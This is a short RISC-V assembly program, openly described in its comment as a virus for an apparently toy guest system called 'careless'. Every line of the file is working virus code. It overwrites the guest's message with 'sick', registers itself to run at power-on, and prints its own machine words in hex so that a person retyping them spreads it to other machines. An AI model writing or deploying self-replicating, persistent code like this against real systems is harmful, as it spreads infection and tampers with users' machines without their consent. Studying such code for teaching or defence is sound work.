# A virus for the guest `careless`: typed there as words, it changes what the guest says from then
# on, puts itself on the disk to be called at power-on, and prints itself in the form in which it
# was typed. Whoever carries that line to another careless computer infects it too. It runs wherever
# it lies: it counts all addresses from itself.

    .globl _start
_start:                         # a0: the guest's services
    mv   a7, ra                 # its routines leave a4 to a7 alone
    mv   a6, a0
    ld   t0, 0(a6)              # its message
    la   t1, mine
    lw   t1, 0(t1)
    sd   t1, 0(t0)
    la   a0, _start
    ld   t0, 16(a6)             # its routine that keeps what is to be called
    jalr t0
    la   a2, _start             # and now myself, from here
    la   a3, end                # to here
1:  lwu  a4, 0(a2)
    li   a5, 28                 # a word: eight digits, the highest first
2:  srl  a0, a4, a5
    andi a0, a0, 15
    addi a0, a0, -10
    bltz a0, 3f
    addi a0, a0, 'a'-'0'-10
3:  addi a0, a0, '0'+10
    ld   t0, 8(a6)              # its routine that prints
    jalr t0
    addi a5, a5, -4
    bgez a5, 2b
    addi a2, a2, 4
    li   a0, ' '
    bltu a2, a3, 4f
    li   a0, '\n'
4:  ld   t0, 8(a6)
    jalr t0
    bltu a2, a3, 1b
    jr   a7
mine:
    .ascii "sick"
end:
